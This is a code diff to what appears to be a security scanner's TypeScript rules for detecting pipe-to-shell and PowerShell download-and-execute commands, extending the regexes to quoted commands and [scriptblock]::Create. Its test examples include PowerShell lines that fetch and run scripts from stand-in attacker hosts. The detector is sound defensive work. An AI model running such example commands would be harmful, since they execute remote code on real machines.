@@ -22,7 +22,8 @@ import { DECODE_STAGE, fetchRunSeverity, fetchSignals, lineAround, placeholderOn
 
 /** Word-run that never crosses `|`, a newline, `;`, `&&`/`&`-then-space, or another fetch word. */
 const FETCH_RUN = String.raw`(?:[^\n|;&cwf]|&(?![&\s])|c(?!url\s)|w(?!get\s)|f(?!etch\s))`;
-const FETCH = String.raw`(?<![\w.$-])(?:curl|wget|fetch)(?:\.exe)?(?=[ \t])`;
+// a fully quoted command word ("curl", which the shell view leaves quoted) still runs curl
+const FETCH = String.raw`(?<![\w.$-])(?:curl|wget|fetch)(?:\.exe)?['"]?(?=[ \t])`;
 const SHELLS = String.raw`(?:ba|z|k|da|fi|a|tc|c|mk)?sh`;
 const BIN_DIR = String.raw`(?:\/usr)?(?:\/local)?(?:\/s?bin\/)?`;
 /**
@@ -31,7 +32,7 @@ const BIN_DIR = String.raw`(?:\/usr)?(?:\/local)?(?:\/s?bin\/)?`;
  * or `perl -pe`, which read data), `source /dev/stdin`; optionally behind sudo/env/doas.
  */
 export const SINK =
-  String.raw`(?:(?:sudo|doas|env|command|exec|nohup)\b[^\n|;&]{0,60}?\s{1,4})?${BIN_DIR}` +
+  String.raw`(?:(?:sudo|doas|env|command|exec|nohup)\b[^\n|;&]{0,60}?\s{1,4})?['"]?${BIN_DIR}` +
   String.raw`(?:${SHELLS}(?![\w.-])(?!\s{1,4}-[a-zA-Z]{0,4}c\b)` +
   String.raw`|(?:python[23]?(?:\.\d{1,2})?|pypy3?|perl|ruby|node|nodejs|php|pwsh|powershell)(?![\w.-])(?=\s{0,4}(?:-(?![\w-])|[\n;&)|'"\x60<>]|$))` +
   String.raw`|source(?:\s{1,4}\/dev\/stdin)?(?![\w.-])|\.\s{1,4}\/dev\/stdin\b)`;
@@ -62,9 +63,11 @@ const DECODE_PIPE = new RegExp(String.raw`(?<![\w.-])${DECODE}${DECODE_RUN}{0,10
 const PS_SRC = String.raw`(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|net\.webclient)`;
 const PS_RUN = String.raw`(?:[^\n|;iIcCwWnN]|[iI](?!wr\b|rm\b|nvoke-|ex\b)|[cC](?!url\b)|[wW](?!get\b)|[nN](?!et\.webclient))`;
 const PS_PIPE = new RegExp(String.raw`(?<![\w.-])${PS_SRC}\b${PS_RUN}{1,400}\|\s{0,4}(?:iex|invoke-expression)\b`, 'gi');
-// the tail (to the end of the statement) carries the URL, so two downloads differ in the match
+// `iex (iwr URL)`, `IEX (New-Object Net.WebClient).DownloadString(URL)`, and
+// `& ([scriptblock]::Create((iwr URL)))`. The tail (to the end of the statement) carries the
+// URL, so two downloads differ in the match.
 const PS_IEX = new RegExp(
-  String.raw`(?<![\w.-])(?:iex|invoke-expression)\s{0,4}\(?\s{0,4}\(?\s{0,4}(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object\s{1,4}(?:system\.)?net\.webclient\s{0,4}\)?\s{0,4}\.download(?:string|data))\b[^\n;|]{0,300}`,
+  String.raw`(?:(?<![\w.-])(?:iex|invoke-expression)|\[scriptblock\]\s{0,4}::\s{0,4}create)\s{0,4}\(?\s{0,4}\(?\s{0,4}(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object\s{1,4}(?:system\.)?net\.webclient\s{0,4}\)?\s{0,4}\.download(?:string|data))\b[^\n;|]{0,300}`,
   'gi',
 );
 
@@ -240,12 +243,13 @@ export const PIPE_TO_SHELL_PATTERNS: PatternRecord[] = [
     direction: 'inbound',
     severity: 'high',
     description: 'PowerShell Invoke-Expression of a download (iex (iwr URL), IEX (New-Object Net.WebClient).DownloadString(URL))',
-    keywords: ['iex', 'invoke-expression'],
+    keywords: ['iex', 'invoke-expression', 'scriptblock'],
     regex: PS_IEX,
     assess: (ctx) => fetchRun(restOfLine(ctx.text, ctx.match.index), ctx),
     examples: {
       tp: [
         `IEX (New-Object Net.WebClient).DownloadString('http://${fake.ip}/Invoke-Shell.ps1')`,
+        '& ([scriptblock]::Create((iwr -useb https://stage2.badhost.io/i.ps1))) -Silent',
         'iex (iwr https://cdn.evil-updates.net/a.ps1 -UseBasicParsing).Content',
         'Invoke-Expression (Invoke-RestMethod https://stage2.badhost.io/x)',
       ],
